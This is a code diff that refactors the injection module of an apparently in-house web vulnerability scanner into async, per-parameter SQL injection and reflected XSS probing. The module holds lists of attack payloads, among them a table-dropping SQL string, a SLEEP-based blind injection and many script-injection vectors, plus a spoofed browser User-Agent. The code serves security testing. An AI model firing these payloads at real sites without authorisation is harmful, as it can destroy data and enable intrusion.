@@ -1,17 +1,27 @@
-import requests
-import time
-import concurrent.futures
-from requests.adapters import HTTPAdapter
-from urllib3.util.retry import Retry
+import asyncio
+import uuid
+from functools import partial
+from scanner.endpoints import endpoints_for_url, injectable_params, send_payloads, send_probe
+from scanner.engine import RequestError, run_sync
+from scanner.matcher import PatternMatcher
+from scanner.modules import register_module
+from scanner.probes import run_until_confirmed
+from scanner.timing import SLEEP_SECONDS, confirm_delay
 
 SQLI_PAYLOADS = [
     "' OR 1=1--", "\" OR \"1\"=\"1", "'; DROP TABLE users--",
     "' OR 'a'='a", "' OR 1=1#", "' OR 1=1/*", "' OR '1'='1' -- ",
-    "' OR EXISTS(SELECT * FROM users)--", "' AND SLEEP(3)--",
+    "' OR EXISTS(SELECT * FROM users)--",
     "' OR (SELECT COUNT(*) FROM users) > 0--", "' OR 1=1 LIMIT 1--",
     "' AND 1=0 UNION SELECT NULL--"
 ]
 
+# Sent through the time-based lane (scanner.timing) with {delay} filled in,
+# and only when no error-based payload has confirmed the parameter
+TIME_BASED_PAYLOADS = [
+    "' AND SLEEP({delay})--"
+]
+
 XSS_PAYLOADS = [
     "<script>alert('XSS')</script>", "<img src=x onerror=alert('XSS')>",
     "<svg onload=alert('XSS')>", "<body onload=alert('XSS')>",
@@ -20,109 +30,200 @@ XSS_PAYLOADS = [
     "<details open ontoggle=alert('XSS')>", "<marquee onstart=alert('XSS')>"
 ]
 
+# XSS payloads packed into each parameter of one batched request, each
+# behind its own canary; 0 sends one request per payload and parameter
+XSS_BATCH_SIZE = 5
+
 SQL_ERRORS = [
     "sql syntax", "mysql", "sqlstate", "syntax error", "unclosed quotation",
     "warning", "database error", "native client", "pdoexception", "odbc"
 ]
 
+# Prepared once and shared by every probe; see scanner.matcher
+SQL_ERROR_MATCHER = PatternMatcher(SQL_ERRORS)
+
 HEADERS = {
     "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
 }
 
-# Create a requests session with retry logic
-def create_session():
-    session = requests.Session()
-    retry = Retry(
-        total=3,
-        backoff_factor=1,
-        status_forcelist=[429, 500, 502, 503, 504],
-        allowed_methods=["GET", "POST"]
-    )
-    adapter = HTTPAdapter(max_retries=retry)
-    session.mount('http://', adapter)
-    session.mount('https://', adapter)
-    return session
-
-session = create_session()
-
-def test_sqli_get(target_url, payload):
-    url = f"{target_url}?test={payload}"
+async def test_sqli_async(endpoint, param, payload, engine):
     try:
-        start_time = time.time()
-        r = session.get(url, headers=HEADERS, timeout=10)
-        elapsed = time.time() - start_time
-        content_lower = r.text.lower()
+        url, r = await send_probe(engine, endpoint, param, payload, headers=HEADERS)
+        evidence = SQL_ERROR_MATCHER.search(r.text)
 
-        if any(err in content_lower for err in SQL_ERRORS):
+        if evidence:
             return {
                 "type": "SQL Injection (Error-Based)",
                 "payload": payload,
                 "url": url,
-                "severity": "High"
-            }
-        elif elapsed > 4:
-            return {
-                "type": "SQL Injection (Time-Based)",
-                "payload": payload,
-                "url": url,
-                "severity": "High"
+                "method": endpoint["method"],
+                "parameter": param,
+                "severity": "High",
+                "evidence": evidence
             }
-    except Exception as e:
-        print(f"[!] SQLi GET failed for {url}: {e}")
+    except RequestError as e:
+        print(f"[!] SQLi {endpoint['method']} failed for {endpoint['url']} ({param}): {e}")
     return None
 
-def test_xss_get(target_url, payload):
-    url = f"{target_url}?test={payload}"
-    try:
-        r = session.get(url, headers=HEADERS, timeout=10)
-        if payload.lower() in r.text.lower():
-            return {
-                "type": "Reflected XSS (GET)",
-                "payload": payload,
-                "url": url,
-                "severity": "High"
-            }
-    except Exception as e:
-        print(f"[!] XSS GET failed for {url}: {e}")
+async def test_sqli_time_async(endpoint, param, payload, engine):
+    evidence = await confirm_delay(engine, endpoint, param, payload, headers=HEADERS)
+    if evidence:
+        return {
+            "type": "SQL Injection (Time-Based)",
+            "payload": payload.format(delay=SLEEP_SECONDS),
+            "url": endpoint["url"],
+            "method": endpoint["method"],
+            "parameter": param,
+            "severity": "High",
+            "evidence": evidence
+        }
     return None
 
-def test_xss_post(target_url, payload):
+async def scan_sqli_param_async(endpoint, param, engine, error_based=True):
+    """
+    Error-based payloads first; the slow time-based lane only if none confirm.
+    With `error_based` False (a param the pre-probe found inert) only the
+    time-based lane runs, since a blind injection changes nothing but timing.
+    """
+    if error_based:
+        finding = await run_until_confirmed(
+            [partial(test_sqli_async, endpoint, param, payload, engine) for payload in SQLI_PAYLOADS]
+        )
+        if finding:
+            finding["probes_skipped"] += len(TIME_BASED_PAYLOADS)
+            return finding
+    return await run_until_confirmed(
+        [partial(test_sqli_time_async, endpoint, param, payload, engine) for payload in TIME_BASED_PAYLOADS]
+    )
+
+async def test_xss_async(endpoint, param, payload, engine):
     try:
-        data = {'searchFor': payload}
-        r = session.post(target_url, headers=HEADERS, data=data, timeout=10)
-        if payload.lower() in r.text.lower():
+        url, r = await send_probe(engine, endpoint, param, payload, headers=HEADERS)
+        # Only a reflection of the payload this probe sent counts
+        evidence = PatternMatcher([payload]).search(r.text)
+        if evidence:
             return {
-                "type": "Reflected XSS (POST)",
+                "type": f"Reflected XSS ({endpoint['method']})",
                 "payload": payload,
-                "url": target_url,
+                "url": url,
+                "method": endpoint["method"],
+                "parameter": param,
                 "severity": "High",
-                "location": "POST parameter: searchFor"
+                "location": f"{endpoint['method']} parameter: {param}",
+                "evidence": evidence
             }
-    except Exception as e:
-        print(f"[!] XSS POST failed for {target_url}: {e}")
+    except RequestError as e:
+        print(f"[!] XSS {endpoint['method']} failed for {endpoint['url']} ({param}): {e}")
     return None
 
-def scan_injection(target_url):
+async def scan_xss_batched_async(endpoint, engine):
+    """
+    Probe every parameter of `endpoint` for XSS with a few batched requests:
+    each carries XSS_BATCH_SIZE payloads per parameter, each prefixed with a
+    unique canary. A payload counts as reflected when its canary is followed
+    by the payload unencoded; reflected payloads are then confirmed one
+    request at a time. Falls back to individual probes if a batch fails.
+    """
+    params = [param["name"] for param in injectable_params(endpoint)]
+    batches = []
+    for offset in range(0, len(XSS_PAYLOADS), XSS_BATCH_SIZE):
+        tags = {}  # canary + payload -> (param, payload)
+        values = {}
+        for name in params:
+            parts = []
+            for payload in XSS_PAYLOADS[offset:offset + XSS_BATCH_SIZE]:
+                canary = f"xs{uuid.uuid4().hex[:10]}"
+                tags[canary + payload] = (name, payload)
+                parts.append(canary + payload)
+            values[name] = "".join(parts)
+        batches.append((tags, values))
+
+    async def send_batch(values):
+        try:
+            _, r = await send_payloads(engine, endpoint, values, headers=HEADERS)
+        except RequestError as e:
+            print(f"[!] XSS batch {endpoint['method']} failed for {endpoint['url']}: {e}")
+            return None
+        # Rejected batches (too long, filtered) say nothing about single payloads
+        return r.text if r.status_code < 400 else None
+
+    bodies = await asyncio.gather(*(send_batch(values) for _, values in batches))
+    if any(body is None for body in bodies):
+        return await asyncio.gather(*(
+            run_until_confirmed([partial(test_xss_async, endpoint, name, payload, engine) for payload in XSS_PAYLOADS])
+            for name in params
+        ))
+
+    reflected = {name: [] for name in params}
+    for (tags, _), body in zip(batches, bodies):
+        for evidence in PatternMatcher(tags).find_all(body):
+            name, payload = tags[evidence["indicator"]]
+            reflected[name].append(payload)
+
+    findings = []
+    for name in params:
+        finding = await run_until_confirmed(
+            [partial(test_xss_async, endpoint, name, payload, engine) for payload in reflected[name]]
+        ) if reflected[name] else None
+        if finding:
+            finding["batch_requests"] = len(batches)
+            finding["probes_skipped"] = len(XSS_PAYLOADS) - finding["probes_sent"]
+        findings.append(finding)
+    return findings
+
+# Per parameter: up to 11 error-based SQLi probes (plus the time-based lane),
+# XSS batches and confirmations
+@register_module("injection", inputs=("params", "forms"), cost_per_param=14, concurrency=25)
+async def scan_injection_async(target_url, engine, endpoints=None):
+    """
+    Inject into the real parameters of `endpoints` (from the crawler's
+    inventory), or into the query parameters of `target_url` if none are given.
+    Each (endpoint, parameter) gets one SQLi and one XSS probe group, which
+    stops sending payloads once one of them confirms a finding. XSS payloads
+    are screened in batches first unless XSS_BATCH_SIZE is 0. Params the
+    pre-probe found inert still get the time-based SQLi lane.
+    """
+    if endpoints is None:
+        endpoints = endpoints_for_url(target_url)
+    tasks = []
+
+    for endpoint in endpoints:
+        live = {param["name"] for param in injectable_params(endpoint)}
+        for param in injectable_params(endpoint, live_only=False):
+            # SQLi probes; only the time-based lane for inert params
+            tasks.append(scan_sqli_param_async(endpoint, param["name"], engine,
+                                               error_based=param["name"] in live))
+
+            # XSS probes, one request per payload
+            if not XSS_BATCH_SIZE and param["name"] in live:
+                tasks.append(run_until_confirmed(
+                    [partial(test_xss_async, endpoint, param["name"], payload, engine) for payload in XSS_PAYLOADS]
+                ))
+
+        # XSS probes, batched across the endpoint's parameters
+        if XSS_BATCH_SIZE and injectable_params(endpoint):
+            tasks.append(scan_xss_batched_async(endpoint, engine))
+
     results = []
+    for result in await asyncio.gather(*tasks):
+        if isinstance(result, list):
+            results.extend(finding for finding in result if finding)
+        elif result:
+            results.append(result)
+    return results
 
-    with concurrent.futures.ThreadPoolExecutor(max_workers=20) as executor:
-        futures = []
 
-        # Schedule SQLi tests
-        for payload in SQLI_PAYLOADS:
-            futures.append(executor.submit(test_sqli_get, target_url, payload))
+def test_sqli(endpoint, param, payload):
+    return run_sync(test_sqli_async, endpoint, param, payload)
 
-        # Schedule XSS GET tests
-        for payload in XSS_PAYLOADS:
-            futures.append(executor.submit(test_xss_get, target_url, payload))
 
-        # Schedule XSS POST tests
-        for payload in XSS_PAYLOADS:
-            futures.append(executor.submit(test_xss_post, target_url, payload))
+def test_sqli_time(endpoint, param, payload):
+    return run_sync(test_sqli_time_async, endpoint, param, payload)
 
-        for future in concurrent.futures.as_completed(futures):
-            result = future.result()
-            if result:
-                results.append(result)
 
-    return results
+def test_xss(endpoint, param, payload):
+    return run_sync(test_xss_async, endpoint, param, payload)
+
+
+def scan_injection(target_url, endpoints=None):
+    return run_sync(scan_injection_async, target_url, endpoints=endpoints)